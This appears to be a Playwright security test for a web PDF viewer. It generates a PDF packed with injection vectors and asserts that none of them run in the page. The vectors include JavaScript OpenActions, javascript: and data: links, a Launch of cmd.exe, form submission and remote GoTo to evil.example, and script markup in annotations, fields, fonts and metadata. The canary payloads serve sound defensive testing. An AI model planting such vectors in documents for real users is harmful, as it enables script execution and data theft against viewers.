import assert from "node:assert/strict";
import { test } from "node:test";
import type { Page } from "playwright-core";
import { anEntry, guestsOf } from "../../kit/guest.ts";
import { aWindow, linkOf, primary, startJourneys } from "../../kit/journey.ts";
import { missing } from "../../kit/web-service.ts";

const journeys = await startJourneys();
const { service } = journeys;

/** Whatever runs in the page leaves this behind, or calls it. */
const ACT = "window.canary=1;fetch\\('/canary'\\);app.alert\\(1\\)";
const HTML = "<img src=/canary onerror=window.canary=1><script>window.canary=1</script>";
const SCRIPT = `<< /S /JavaScript /JS (${ACT}) >>`;
const link = (place: number, action: string) =>
  `<< /Type /Annot /Subtype /Link /Rect [50 ${place} 250 ${place + 20}] /A ${action} >>`;

/** Scripts, launches and markup wherever a PDF can hold them. */
const OBJECTS = [
  `<< /Type /Catalog /Pages 2 0 R /OpenAction ${SCRIPT} /AA << /WC ${SCRIPT} /DS ${SCRIPT} >> /Names << /JavaScript << /Names [(a) ${SCRIPT}] >> >> /URI << /Base (javascript:${ACT}) >> /AcroForm << /Fields [9 0 R] >> >>`,
  "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> /AA << /O ${SCRIPT} >> /Annots [${[
    link(700, `<< /S /URI /URI (javascript:${ACT}) >>`),
    link(660, "<< /S /URI /URI (data:text/html,<script>window.opener.canary=1</script>) >>"),
    link(620, "<< /S /Launch /F (cmd.exe) >>"),
    link(580, SCRIPT),
    link(540, "<< /S /SubmitForm /F (https://evil.example/canary) >>"),
    link(500, "<< /S /GoToR /F (https://evil.example/canary.pdf) /D [0 /Fit] >>"),
    `<< /Type /Annot /Subtype /FreeText /Rect [50 400 250 440] /Contents (${HTML}) /DA (/F 10 Tf) /RC (<body>${HTML}</body>) >>`,
    `<< /Type /Annot /Subtype /Text /Rect [50 350 70 370] /Contents (${HTML}) /T (${HTML}) >>`,
  ].join(" ")} 9 0 R] >>`,
  stream("BT /F 12 Tf 50 780 Td (<script>window.canary=1</script>) Tj ET"),
  "<< /Type /Font /Subtype /Type1 /BaseFont /Evil /FontDescriptor 6 0 R /FirstChar 32 /LastChar 126 /Widths 7 0 R /FontMatrix [0.001 0 0 0.001 0 (1\\); window.canary=1; //)] >>",
  "<< /Type /FontDescriptor /FontName /Evil /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile 8 0 R >>",
  `[${"600 ".repeat(95)}]`,
  stream(
    "%!PS-AdobeFont-1.0: Evil\n/FontName /Evil def /FontMatrix [0.001 0 0 0.001 0 (1\\); window.canary=1; //)] readonly def currentfile eexec\n",
    "/Length1 130 /Length2 0 /Length3 0",
  ),
  `<< /Type /Annot /Subtype /Widget /FT /Tx /T (${HTML}) /TU (${HTML}) /V (${HTML}) /Rect [50 300 250 320] /AA << /F ${SCRIPT} /K ${SCRIPT} /E ${SCRIPT} >> /A ${SCRIPT} >>`,
  `<< /Title (${HTML}) /Author (${HTML}) >>`,
];

function stream(text: string, more = ""): string {
  return `<< /Length ${text.length} ${more} >>\nstream\n${text}\nendstream`;
}

function written(objects: readonly string[]): Buffer {
  let file = "%PDF-1.7\n";
  const places = objects.map((object, at) => {
    const place = file.length;
    file += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return `${String(place).padStart(10, "0")} 00000 n \n`;
  });
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join("")}`;
  const trailer = `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R /Info 10 0 R >>\n`;
  return Buffer.from(`${file}${table}${trailer}startxref\n${file.length}\n%%EOF\n`, "latin1");
}

/** What markup of a document would do, if there were any. */
const RUN_MARKUP = `(() => {
  const script = document.createElement("script");
  try {
    script.append("window.canary = 1");
    document.body.append(script);
  } catch {
    return "refused";
  }
  return "canary" in window ? "run" : "refused";
})()`;

/** What of the document acted. */
function watched(page: Page): { readonly acts: string[] } {
  const acts: string[] = [];
  page.on("dialog", (dialog) => {
    acts.push(`dialog ${dialog.message()}`);
    dialog.dismiss().catch(() => undefined); // the page may be gone
  });
  page.on("popup", () => acts.push("a window"));
  page.on("download", () => acts.push("a download"));
  page.on("request", (request) => {
    if (/canary|evil\.example|^data:text/.test(request.url())) acts.push(request.url());
  });
  return { acts };
}

test(
  "12. nothing that a PDF carries runs in the page that shows it",
  { skip: missing },
  async () => {
    const content = written(OBJECTS).toString("base64");
    const [guest] = await guestsOf(service, [anEntry("Ada")], { content });
    assert.ok(guest);
    const { page } = await aWindow(journeys);
    const { acts } = watched(page);
    await page.goto(linkOf(service, guest));
    await primary(page).click();
    await page.locator(".textLayer").first().waitFor();
    await page.getByText("<script>window.canary=1</script>").first().waitFor();
    const address = page.url();
    const targets = await page
      .locator(".annotationLayer a")
      .evaluateAll((links) => links.map((one) => one.getAttribute("href") ?? ""));
    assert.deepEqual(
      targets.filter((href) => /^(javascript|data|file):/i.test(href)),
      [],
    );
    for (const one of await page.locator(".annotationLayer section, .annotationLayer a").all()) {
      await one.click({ force: true, timeout: 2_000 }).catch(() => undefined); // some have no size
    }
    const state = await page.evaluate(`({
    canary: "canary" in window,
    markup: document.querySelectorAll("img[onerror], [src='/canary']").length,
  })`);
    assert.deepEqual([state, acts, page.url()], [{ canary: false, markup: 0 }, [], address]);
    const policy = (await page.request.get(linkOf(service, guest))).headers();
    assert.match(
      policy["content-security-policy"] ?? "",
      /script-src 'self'(;| 'wasm-unsafe-eval')/,
    );
    const run = await page.evaluate(RUN_MARKUP);
    assert.equal(run, "refused", "were there markup, its script would not run");
  },
);
